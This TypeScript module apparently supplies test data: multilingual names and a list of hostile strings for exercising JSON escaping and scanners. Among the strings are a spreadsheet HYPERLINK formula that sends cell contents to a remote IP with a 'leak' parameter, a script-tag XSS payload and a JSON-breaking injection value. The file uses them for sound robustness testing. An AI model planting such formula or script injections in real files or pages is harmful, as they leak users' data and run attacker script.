/** Words and JSON strings for the populations, hostile ones included. Written by hand so that no digit or escape is lost. */

const names = [
  'Ada Lindqvist',
  'Zoë Müller',
  '山田 太郎',
  'José Ñíguez',
  'Олена Шевчук',
  'Priya Raman',
  "Tim O'Neil",
  'نور حداد',
]

/** Strings that break careless scanners, escapers and column limits; a lone surrogate and a NUL among them. */
const hostile = [
  'quote " backslash \\ slash / comma , braces }{ brackets ][ "}],"id":1',
  'controls \u0000\u0001\b\t\n\f\r\u001f\u007f\u0085 and separators \u2028\u2029',
  'emoji 👩‍💻 🏳️‍🌈 and right-to-left \u202eabc\u202c',
  'a lone surrogate \ud83d in the middle',
  '=HYPERLINK("http://198.51.100.7/?leak="&A1,"open")',
  "<script>alert('x')</script>&amp;</script>",
  'é'.repeat(2500) + '"'.repeat(2500),
  '',
  ' \t leading and trailing blanks \r\n',
  'x'.repeat(5000),
]

/** A person's name, non-ASCII ones among them. */
export function nameOf(number: number): string {
  return names[number % names.length] ?? 'Nobody'
}

/** One of the hostile strings. */
export function hostileOf(number: number): string {
  return hostile[number % hostile.length] ?? ''
}

/** A JSON string; `escaped` writes everything beyond ASCII as \u escapes, as some serialisers do. */
export function quote(text: string, escaped: boolean): string {
  const quoted = JSON.stringify(text)
  if (!escaped) return quoted
  return quoted.replace(/[\u007f-\uffff]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`)
}

/** The same for a value that may be missing. */
export function quoteOrNull(text: string | null, escaped: boolean): string {
  return text === null ? 'null' : quote(text, escaped)
}
